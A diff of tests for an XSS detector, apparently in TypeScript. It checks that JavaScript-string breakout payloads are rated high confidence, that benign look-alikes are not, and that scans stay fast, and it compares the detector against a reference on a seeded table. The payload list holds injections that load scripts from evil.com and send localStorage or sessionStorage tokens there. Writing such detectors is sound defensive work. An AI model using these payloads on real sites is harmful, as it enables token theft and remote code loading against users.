@@ -1187,3 +1187,138 @@ t.test('short end tags: passed over by the scan, verdicts pinned', async (t) => 
   t.equal(detectXss('</a>x'.repeat(4096) + '<svg onload=alert(1)>')?.confidence, 'high');
   t.equal(detectXss('</a>x'.repeat(100) + '</textarea>')?.rule, 'xss.context-breakout');
 });
+
+t.test('complete JavaScript-string breakouts into loads, exfiltration and redirects are high (session 19)', async (t) => {
+  // Reflected into `var q = '<value>';`: each closes the string, runs, and comments out or reopens
+  // the rest. None uses a dialog or a document./window. chain, so all passed before.
+  const high = [
+    "';import('//evil.com/x.js')//",
+    '";import("https://evil.com/x.js");//',
+    "'+import('//evil.com/x.js')+'",
+    "';location='//evil.com'//",
+    "';location.href='//evil.com'//",
+    "';top.location='//evil.com'//",
+    "';navigator.sendBeacon('//evil.com',localStorage.token)//",
+    "';new Image().src='//evil.com/?'+localStorage.token//",
+    "';open('//evil.com')//",
+    "\\';$.getScript('//evil.com/x.js')//",
+    "';jQuery.globalEval(s)//",
+    "';postMessage(localStorage.token,'*')//",
+    "';onerror=alert;throw 1//",
+    "'); fetch('//evil.com',{method:'POST',body:localStorage.getItem('t')})//",
+    "';x=new XMLHttpRequest;x.open('GET','//evil.com/?'+sessionStorage.t);x.send()//",
+    "';with(document)body.appendChild(createElement('script')).src='//evil.com/x.js'//",
+    "'}; location = 'https://evil.com' ;var a='",
+  ];
+  for (const v of high) {
+    const d = detectXss(v);
+    t.equal(d?.confidence, 'high', `high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
+  }
+  const notHigh = [
+    "'Hello', said the import manager // note",
+    '"; this is fine" // open the door',
+    "'-' // comment about location",
+    "O'Brien; fetch the car // later",
+    "'; open(1)",
+    "'cause I said so; load the fetch() result // done",
+    '"It\'s ok"; she said \'fetch(it)\'',
+    '", "cookie": "abc", "url": "https://x.com/"',
+    '", "src": "a", "innerHTML": "b" // c',
+    "';location is where // it is",
+    '"use strict"; fetch(url) // load',
+    "'; // TODO: fetch(data) later",
+    "let q = 'a'; fetch(q) // example",
+  ];
+  for (const v of notHigh) {
+    const d = detectXss(v);
+    t.not(d?.confidence, 'high', `not high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
+  }
+});
+
+t.test('breakout frame: bounded on 1 MB values that only look like a breakout', async (t) => {
+  const mid = 'x'.repeat(1 << 20);
+  for (const v of [`';${mid}//`, `'+${mid}+'`, `';${'a('.repeat(1 << 19)}//`, `';${'/'.repeat(1 << 20)}`, `'${';'.repeat(1 << 20)}'`]) {
+    const t0 = process.hrtime.bigint();
+    detectXss(v);
+    const ms = Number(process.hrtime.bigint() - t0) / 1e6;
+    t.ok(ms < 500, `${JSON.stringify(v.slice(0, 8))}… in ${ms.toFixed(1)} ms`);
+  }
+});
+
+// A slow reference for the breakout scan (session 19): the frame read with slices, the names with a
+// regex and Sets instead of the trie walk. On a seeded table of breakout-framed mixtures, every value
+// the reference flags must be high, and every value the detector makes high with this rule must be
+// one the reference flags. (A planted trie that dropped `sendBeacon`, or judged the last identifier
+// before the tail with the tail's character, failed here.)
+const REF_CALL = new Set('import fetch open eval Function atob setTimeout setInterval sendBeacon postMessage getScript globalEval ajax createElement appendChild write writeln insertAdjacentHTML WebSocket EventSource alert prompt confirm'.split(' '));
+const REF_REF = new Set(['localStorage', 'sessionStorage', 'indexedDB', 'XMLHttpRequest']);
+const REF_SET = new Set(['location', 'onerror', 'onload']);
+const REF_MEMBER_SET = new Set(['src', 'href', 'action', 'innerHTML', 'outerHTML']);
+function refBreakout(s: string): boolean {
+  let k = 0;
+  while (k < s.length && k < 8 && s.charCodeAt(k) <= 32) k++;
+  while (k < s.length && k < 10 && s[k] === '\\') k++;
+  const q = s[k];
+  if (q !== "'" && q !== '"' && q !== '`') return false;
+  k++;
+  const stop = Math.min(s.length, k + 8);
+  while (k < stop && (')]}'.includes(s[k]!) || s.charCodeAt(k) <= 32)) k++;
+  if (k >= s.length || !';+-*|&^%,'.includes(s[k]!)) return false;
+  const head = k + 1;
+  let e = s.length;
+  while (e > head && s.charCodeAt(e - 1) <= 32) e--;
+  if (e <= head) return false;
+  let tail = -1;
+  if (s[e - 1] === q) {
+    let j = e - 2;
+    while (j >= head && s.charCodeAt(j) <= 32 && e - j < 8) j--;
+    if (j >= head && ';+-*|&^%,=('.includes(s[j]!)) tail = j;
+  }
+  if (tail === -1) {
+    const t = s.lastIndexOf('//', e - 1);
+    if (t < head || s[t - 1] === ':' || /[\n\r\u2028\u2029]/.test(s.slice(t + 2, e))) return false;
+    tail = t;
+  }
+  const mid = s.slice(0, tail);
+  for (const m of mid.slice(head).matchAll(/[A-Za-z0-9_$]+/g)) {
+    const a = head + m.index!;
+    if (a > 0 && /[A-Za-z0-9_$]/.test(s[a - 1]!)) continue; // the identifier began before the head
+    const after = mid.slice(a + m[0].length).replace(/^[ \t]{0,4}/, '');
+    const blanks = mid.length - a - m[0].length - after.length;
+    const d = after.length > 0 ? after[0]! : '';
+    const assign = d === '=' && after[1] !== '=';
+    const name = m[0];
+    if ((d === '(' || d === '`') && REF_CALL.has(name)) return true;
+    if ((d === '' || '.=;),]+[('.includes(d)) && REF_REF.has(name)) return true;
+    if ((assign || (d === '.' && blanks === 0)) && REF_SET.has(name)) return true;
+    if (assign && s[a - 1] === '.' && REF_MEMBER_SET.has(name)) return true;
+  }
+  return false;
+}
+
+t.test('breakout scan against a slow reference on a seeded table (session 19)', async (t) => {
+  const heads = ["';", '"+', "')", "\\';", "'}-", '"|', "' ,", '`;', "'\t;", "'x;"];
+  const tails = ['//', "+'", '// x', '"', ";var a='", '\n//', '//\n', '://x', "('", '=`'];
+  const pieces = [...'\'"`\\;+-|&,)}] =(./*\n:?%é'].concat(['//', 'fetch', 'import', 'location', 'localStorage', 'XMLHttpRequest', 'cookie', 'src', 'href', 'open', 'alert', 'onerror', 'innerHTML', 'sendBeacon', 'the', "O'Brien", 'http://x.com/', "'//evil.com'", 'x', 'new ', 'Image()', 'fetchy', 'xfetch', 'src2', '==']);
+  let seed = 1919;
+  const r = (): number => ((seed = (Math.imul(seed, 1103515245) + 12345) >>> 0), seed / 2 ** 32);
+  let flagged = 0;
+  const verdicts: string[] = [];
+  for (let i = 0; i < 60000; i++) {
+    let s = r() < 0.8 ? heads[Math.floor(r() * heads.length)]! : '';
+    const len = 1 + Math.floor(r() * 8);
+    for (let j = 0; j < len; j++) s += pieces[Math.floor(r() * pieces.length)];
+    if (r() < 0.8) s += tails[Math.floor(r() * tails.length)];
+    const d = detectXss(s);
+    // (Without a `(`, `=` or backtick nothing is called or assigned, and the detector's pre-pass
+    // returns before any scan: `';localStorage//` names storage and does nothing with it.)
+    const raw = refBreakout(s);
+    const ref = /[(=`]/.test(s) && raw;
+    if (ref) flagged++;
+    if (ref && d?.confidence !== 'high') t.fail(`reference flags, detector not high: ${JSON.stringify(s)} -> ${JSON.stringify(d)}`);
+    if (!raw && d?.reason.startsWith('A string breakout into code that loads')) t.fail(`detector's breakout rule without the reference: ${JSON.stringify(s)}`);
+    verdicts.push(verdictKey(d));
+  }
+  t.ok(flagged > 600, `${flagged} values flagged by the reference`);
+  t.equal(verdictDigest(verdicts), 'be40fdbe', 'verdicts of the table pinned');
+});
